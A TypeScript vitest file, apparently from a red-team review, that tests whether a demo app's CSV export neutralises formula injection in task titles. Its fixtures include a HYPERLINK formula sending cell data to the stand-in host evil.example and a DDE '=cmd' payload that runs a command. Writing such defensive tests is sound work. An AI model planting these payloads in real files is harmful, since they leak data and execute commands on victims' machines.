// Red team (jobs, round 2): the demo's CSV export writes task titles verbatim. Any project member
// can name a task `=HYPERLINK("https://evil.example/?"&A1,"click")` or `=cmd|' /C calc'!A0`; the
// export's owner downloads "<project>-tasks.csv" (Content-Type text/csv, header=present) and opens
// it in Excel / LibreOffice / Sheets, which evaluate it as a formula (OWASP "CSV Injection").
// Expected: a field starting with = + - @ TAB or CR is neutralised (e.g. prefixed with a single
// quote, as OWASP recommends). This test FAILS while titles reach the file as live formulas.
import { describe, expect, it } from "vitest";
import { csvField, parseCsv } from "../../apps/demo/src/server/jobs/index.ts";

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
];

describe("demo CSV export: formula injection", () => {
  it.each(formulas)("a task titled %j does not reach the CSV as a formula", (title) => {
    const cell = parseCsv(`${csvField(title)}\r\n`)[0]?.[0];
    expect(cell).toBe(`'${title}`);
  });
});
